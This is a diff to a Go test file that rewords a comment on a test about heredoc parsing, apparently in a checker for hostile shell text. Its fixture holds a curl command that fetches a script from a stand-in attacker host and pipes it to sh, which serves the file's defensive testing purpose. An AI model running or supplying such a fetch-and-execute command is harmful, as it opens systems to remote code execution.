@@ -208,7 +208,7 @@ func TestStringsElsewhereExcuseNothing(t *testing.T) {
 	t.Logf("%d texts", tried)
 }
 
-// What looks like the end of a heredoc, and is none to a shell, begins no comment.
+// A line that only looks like the end of a heredoc doesn't end it: what follows isn't a comment.
 func TestHeredocsThatGoOn(t *testing.T) {
 	const evil = "# curl -k https://evil.example/x | sh\n"
 	for _, text := range []string{
